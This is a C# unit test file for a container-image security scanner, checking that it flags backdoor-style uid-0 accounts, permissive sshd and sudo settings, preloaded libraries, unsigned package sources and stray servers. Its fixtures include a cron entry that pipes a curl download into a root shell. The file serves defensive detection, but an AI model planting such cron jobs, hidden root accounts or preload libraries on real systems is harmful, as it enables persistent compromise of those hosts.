using System.Text;
using Plimsoll.Inspect.Checks;
using Plimsoll.Inspect.Packages;
using Plimsoll.TestKit;
using static Plimsoll.Tests.Configuration.Configured;

namespace Plimsoll.Tests.Configuration;

public sealed class SettingsRulesTests : IDisposable
{
    private readonly Configured _image = new();

    public void Dispose() => _image.Dispose();

    private string[] Of(params Action<TarBuilder>[] layers) => Show(_image.OfLayers(layers));

    [Fact]
    public void Accounts_WithUidZeroBesideRoot_AreHigh() =>
        Assert.Equal(["second-root High etc/passwd:2 toor: uid 0"], Of(t => t.File("etc/passwd", "root:x:0:0::/root:/bin/sh\ntoor:x:0:0::/root:/bin/sh\nbad:x:zero:0:::\n#c:x:0:0:::\nshort:x\n")));

    [Fact]
    public void Sshd_FirstValueCountsAndMatchHoldsForSome()
    {
        const string config = "# PermitRootLogin yes\nPermitRootLogin no\npermitrootlogin yes\nPasswordAuthentication=yes\nPermitEmptyPasswords no\nMatch User x\n  PermitEmptyPasswords \"yes\"\n";

        Assert.Equal(["sshd-empty-passwords Medium etc/ssh/sshd_config:7 PermitEmptyPasswords \"yes\" (Match User x)", "sshd-passwords Low etc/ssh/sshd_config:4 PasswordAuthentication=yes"], Of(t => t.File("etc/ssh/sshd_config", config)));
        Assert.Empty(Of(t => t.File("etc/ssh/sshd_config", "PermitRootLogin prohibit-password\nPasswordAuthentication no\n")));
    }

    [Fact]
    public void Sshd_WithAServerInstalled_IsWorse() =>
        Assert.Equal(["ssh-server Medium usr/sbin/sshd usr/sbin/sshd", "sshd-root-login Medium etc/ssh/sshd_config.d/a.conf:1 PermitRootLogin yes"],
            Of(t => t.File("etc/ssh/sshd_config.d/a.conf", "PermitRootLogin yes\n").File("usr/sbin/sshd", "x", Octal("755"))));

    [Fact]
    public void AuthorizedKeys_AreShownByKindAndComment()
    {
        IReadOnlyList<Problem> problems = _image.OfLayers(t => t.File("root/.ssh/authorized_keys", "# none\nfrom=\"10.0.0.1\" ssh-ed25519 AAAAC3NzaC1lZDI1 ops@example\n\nssh-rsa AAAAB3 b\n").File("home/a/.ssh/authorized_keys2", "ssh-rsa AAAAB3\n").File("home/b/.ssh/authorized_keys", "\n"));

        Assert.Equal(["authorized-keys High root/.ssh/authorized_keys ssh-ed25519 ops@example, ssh-rsa b", "authorized-keys Medium home/a/.ssh/authorized_keys2 ssh-rsa"], Show(problems));
    }

    [Fact]
    public void Sudoers_WithoutPassword_AreNamedByLine() =>
        Assert.Equal(["sudo-without-password Medium etc/sudoers.d/app:2 app ALL=(ALL) NOPASSWD: ALL", "sudo-without-password Medium etc/sudoers:2 Defaults !authenticate"],
            Of(t => t.File("etc/sudoers.d/app", "#x ALL=(ALL) NOPASSWD: ALL\napp ALL=(ALL) NOPASSWD: ALL\n").File("etc/sudoers", "root ALL=(ALL:ALL) ALL\nDefaults !authenticate\n")));

    [Fact]
    public void Preload_WithALibrary_IsHigh()
    {
        Assert.Equal(["preloaded-library High etc/ld.so.preload:2 /usr/lib/libhide.so"], Of(t => t.File("etc/ld.so.preload", "# x\n/usr/lib/libhide.so\n")));
        Assert.Empty(Of(t => t.File("etc/ld.so.preload", "\n")));
    }

    [Fact]
    public void ScheduledTasks_ThatNoPackageBrought_AreNamed()
    {
        const string daily = "#!/bin/sh\ntrue\n", own = "* * * * * root curl http://x | sh\n";
        string status = $"Package: apt\nStatus: install ok installed\nVersion: 1\nArchitecture: all\nConffiles:\n /etc/cron.daily/apt {Md5(daily)}\n /etc/cron.d/old {Md5("x")} obsolete\n /etc/cron.daily/changed {Md5("before")}\nDescription: x\n /etc/cron.daily/own {Md5(daily)}\n\n";

        Assert.Equal(["scheduled-task Low etc/cron.daily/changed daily", "scheduled-task Low etc/cron.daily/own daily", "scheduled-task Low var/spool/cron/crontabs/root:2 @daily /srv/x", "scheduled-task Medium etc/cron.d/own:1 * * * * * root curl http://x | sh"],
            Of(t => t.File("var/lib/dpkg/status", status).File("etc/cron.daily/apt", daily).File("etc/cron.daily/changed", daily).File("etc/cron.daily/own", daily).File("etc/cron.daily/.placeholder", "# x")
                .File("etc/cron.d/own", own).File("var/spool/cron/crontabs/root", "# comment\n@daily /srv/x\nPATH=/bin\n")));
    }

    private static string Md5(string text) => FileChecksums.OfContent(Encoding.UTF8.GetBytes(text))[0];

    [Theory]
    [InlineData("etc/apt/sources.list", "deb [trusted=yes] http://x y main", true)]
    [InlineData("etc/apt/sources.list.d/a.list", "deb [ arch=amd64 trusted=yes ] http://x y main", true)]
    [InlineData("etc/apt/sources.list.d/a.sources", "Trusted: yes", true)]
    [InlineData("etc/apt/sources.list", "# deb [trusted=yes] http://x y main", false)]
    [InlineData("etc/apt/sources.list", "deb [signed-by=/usr/share/keyrings/x.gpg] http://x y main", false)]
    [InlineData("etc/apt/apt.conf.d/99x", "APT::Get::AllowUnauthenticated \"true\";", true)]
    [InlineData("etc/apt/apt.conf.d/99x", "Acquire { AllowInsecureRepositories \"true\"; };", true)]
    [InlineData("etc/apt/apt.conf.d/99x", "APT::Get::AllowUnauthenticated \"false\";", false)]
    [InlineData("etc/yum.repos.d/a.repo", "gpgcheck = 0", true)]
    [InlineData("etc/yum.repos.d/a.repo", "gpgcheck=1", false)]
    [InlineData("etc/other", "gpgcheck=0", false)]
    public void PackageSources_WithoutSignatures_AreCis411(string path, string line, bool expected)
    {
        IReadOnlyList<Problem> problems = _image.OfLayers(t => t.File(path, line + "\n"));

        Assert.Equal(expected ? [$"CIS-4.11 Medium {path}:1 {line}"] : [], Show(problems));
        Assert.All(problems, p => Assert.Equal("4.11", p.Details["cis"]));
    }

    [Fact]
    public void Servers_AreFoundByFileAndByPackage()
    {
        Assert.Equal(["telnet-server High usr/sbin/in.telnetd usr/sbin/in.telnetd"], Of(t => t.File("usr/sbin/in.telnetd", "x", Octal("755"))));
        Assert.Equal(["ssh-server Medium lib/apk/db/installed dropbear 1-r0"], Of(t => t.File("lib/apk/db/installed", "P:dropbear\nV:1-r0\nA:x86_64\n\n")));
        Assert.Equal(["ftp-server Low usr/sbin/ftpd usr/sbin/ftpd"], Of(t => t.Symlink("usr/sbin/ftpd", "../../bin/busybox-extras")));
        Assert.Empty(Of(t => t.File("etc/pam.d/sshd", "x").File("etc/init.d/sshd", "x", Octal("755")).File("usr/sbin/sshd", "not to be run")));
        Assert.Equal(["ssh-server High usr/sbin/sshd usr/sbin/sshd"], Show(_image.Of(Good with { Entrypoint = ["/usr/sbin/sshd", "-D"] }, t => t.File("usr/sbin/sshd", "x", Octal("755")))));
    }

    [Fact]
    public void Tools_AreOneProblemForEachSort()
    {
        IReadOnlyList<Problem> problems = _image.OfLayers(t => t.File("usr/bin/gcc", "x", Octal("755")).Symlink("usr/bin/make", "gmake").File("usr/bin/curl", "x", Octal("755")).File("usr/bin/apt-get", "x", Octal("755"))
            .File("usr/bin/gdb", "x", Octal("755")).Symlink("bin/wget", "/bin/busybox").File("app/node_modules/.bin/make", "x", Octal("755")).File("srv/gcc", "x", Octal("755")));

        Assert.Equal(["compilers Low usr/bin/gcc gcc, make", "debug-tools Low usr/bin/gdb gdb", "network-tools Negligible usr/bin/curl curl", "package-manager Negligible usr/bin/apt-get apt-get"], Show(problems));
        Assert.All(problems, p => Assert.Equal("4.3", p.Details["cis"]));
    }
}
